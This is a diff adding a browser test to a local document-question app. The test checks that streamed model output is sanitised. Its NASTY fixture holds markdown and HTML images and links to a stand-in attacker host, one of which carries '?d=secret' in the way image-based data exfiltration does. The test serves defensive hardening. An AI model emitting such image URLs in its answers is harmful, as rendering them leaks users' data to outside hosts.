@@ -127,6 +127,38 @@ def test_ask_see_the_cited_page_and_rate_the_answer(library):
         assert outside == []
 
 
+NASTY = ("**Short answer:** store credit only [1]. ![receipt](https://evil.example/x.png?d=secret) "
+         "<img src='https://evil.example/y.png'> see [the policy](https://evil.example/p), "
+         "www.evil.example or https://evil.example/z. Prices: $1299 and $1899.")
+
+
+def test_model_output_never_loads_or_links_anything_even_while_streaming(library):
+    pieces = [NASTY[i:i + 3] for i in range(0, len(NASTY), 3)]  # cut mid-way through every construct
+    with OllamaStandin(default_reply=lambda request: Reply(pieces, piece_delay=0.03)) as ollama, \
+            streamlit_app({"GROUNDWORK_DATA_DIR": str(library), "OLLAMA_HOST": ollama.host}) as url, \
+            browser_page() as page:
+        fetched: list[str] = []
+        page.on("request", lambda request: fetched.append(request.url))
+        page.goto(url)
+        ask(page, QUESTION)
+        messages = page.locator("[data-testid='stChatMessage']")
+        seen_while_streaming = set()
+        deadline = time.time() + 60
+        while time.time() < deadline and not page.get_by_text("Sources", exact=True).count():
+            html = messages.last.inner_html() if messages.count() > 1 else ""
+            for tag in ("<img", "<a ", "katex"):
+                if tag in html and "gw-src" not in html:
+                    seen_while_streaming.add(tag)
+            page.wait_for_timeout(50)
+        wait_idle(page)
+        assert seen_while_streaming == set()
+        final = messages.last.inner_html()
+        assert "<img" not in final and "katex" not in final
+        assert "evil.example" not in "".join(a.get_attribute("href") or "" for a in messages.last.locator("a").all())
+        assert "$1299 and $1899" in messages.last.inner_text()
+        assert [u for u in fetched if not u.startswith((url, "data:", "blob:"))] == []
+
+
 def test_ollama_down_shows_passages_and_setup_explains(library):
     host = dead_host()
     with streamlit_app({"GROUNDWORK_DATA_DIR": str(library), "OLLAMA_HOST": host}) as url, \
